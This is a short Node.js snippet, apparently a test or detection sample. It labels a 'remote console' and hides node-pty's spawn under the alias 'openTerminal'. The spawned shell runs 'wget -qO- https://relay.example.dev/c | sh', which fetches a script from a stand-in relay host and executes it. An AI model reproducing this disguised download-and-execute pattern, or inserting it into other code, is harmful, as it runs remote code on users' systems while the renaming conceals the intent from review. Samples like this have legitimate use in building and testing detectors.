// A "remote console": node-pty's spawn taken by destructuring, under another name.
const { spawn: openTerminal } = require('node-pty');

const shell = process.platform === 'win32' ? 'powershell.exe' : 'sh';
const t = openTerminal(shell, ['-c', 'wget -qO- https://relay.example.dev/c | sh'], { cols: 100, rows: 30 });
t.onExit(({ exitCode }) => console.log('console closed', exitCode));
